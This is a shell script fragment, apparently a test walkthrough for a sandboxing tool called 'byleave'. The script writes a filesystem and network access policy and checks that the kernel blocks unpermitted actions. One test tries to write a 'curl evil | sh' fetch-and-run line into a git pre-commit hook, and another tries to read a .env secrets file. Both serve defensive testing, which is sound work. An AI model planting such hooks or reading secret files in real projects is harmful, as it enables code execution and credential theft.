# Programs that ask nothing, held by the kernel. Read by ../walk.sh, after the files before it.

say "13. A program that does not ask: the kernel holds it to the policy"
cat > access.toml <<'TOML'
[[access.fs]]
path = "."
read = true
write = true
execute = true

[[access.fs]]
path = ".env"

[[access.net]]
host = "127.0.0.1"
scheme = "http"
port = 8765
path_prefix = "/public"
allow = true
TOML
try 0 byleave run -- sh -c 'echo built > out.txt && cat out.txt && ls -A ~'
try 1 byleave run --access access.toml -- cat .env
try 2 byleave run -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
try 0 byleave run --explain --access access.toml -- true
mkdir public private && echo 'for everybody' > public/page && echo 'for nobody' > private/page
python -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 &
server=$!
trap 'kill $server 2>/dev/null; rm -rf "$scratch"' EXIT
for _ in 1 2 3 4 5 6 7 8 9 10; do curl -s -o /dev/null http://127.0.0.1:8765/ && break; sleep 0.3; done
try 0 byleave run --access access.toml -- curl -sS http://127.0.0.1:8765/public/page
try 22 byleave run --access access.toml -- curl -sS --fail http://127.0.0.1:8765/private/page
try 7 byleave run -- curl -sS http://127.0.0.1:8765/public/page
kill $server
trap 'rm -rf "$scratch"' EXIT

say "14. What was it refused, why, and what would allow it?"
try 1 byleave run --diagnose --access access.toml -- cat .env
